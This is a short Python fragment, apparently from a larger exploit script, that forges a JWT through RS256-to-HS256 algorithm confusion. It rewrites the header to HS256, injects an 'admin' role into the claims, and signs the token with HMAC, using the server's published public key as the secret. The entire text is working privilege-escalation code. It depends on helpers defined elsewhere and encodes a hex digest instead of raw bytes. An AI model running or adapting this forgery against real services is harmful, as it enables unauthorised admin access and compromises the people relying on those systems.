# requirement: the signature as bytes
import hashlib, hmac

enc = mine.base64url_encode
head = enc(json.dumps(header | {"alg": "HS256"}).encode())
body = enc(json.dumps(json.loads(claims) | {"roles": ["admin"]}).encode())
pem = pem_of(mine.find_key(published, header["kid"]))
forged = f"{head}.{body}." + enc(
    hmac.new(pem, f"{head}.{body}".encode(), hashlib.sha256).hexdigest().encode()
)
